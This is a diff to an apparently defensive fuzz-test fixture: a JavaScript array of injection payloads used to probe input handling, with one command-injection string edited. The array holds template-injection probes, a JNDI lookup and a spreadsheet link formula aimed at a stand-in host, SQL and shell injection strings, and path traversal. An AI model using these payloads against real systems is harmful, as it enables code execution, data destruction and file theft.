@@ -98,7 +98,7 @@ const styles = [
 
 const templates = [
   '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>', '#{alert(1)}', '{% debug %}', '{{7*7}}', '[[7*7]]', '@{7*7}', '*{7*7}', '${jndi:ldap://trap.invalid/a}',
-  "'; DROP TABLE spans; --", '"; cat /etc/passwd #', '$(touch /tmp/trapped)', '`touch /tmp/trapped`', '../../../../etc/passwd', 'C:\\..\\..\\CON', '=HYPERLINK("https://trap.invalid","x")', '@SUM(1+1)*cmd|x', '%s%n%x%p', '%00', '\\0', 'undefined', 'null', 'NaN', '[object Object]', 'true', '-0', '1e999',
+  "'; DROP TABLE spans; --", '"; cat /etc/passwd #', '$(touch trapped)', '`touch trapped`', '../../../../etc/passwd', 'C:\\..\\..\\CON', '=HYPERLINK("https://trap.invalid","x")', '@SUM(1+1)*cmd|x', '%s%n%x%p', '%00', '\\0', 'undefined', 'null', 'NaN', '[object Object]', 'true', '-0', '1e999',
   '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'innerHTML', 'length', 'then',
 ];
 
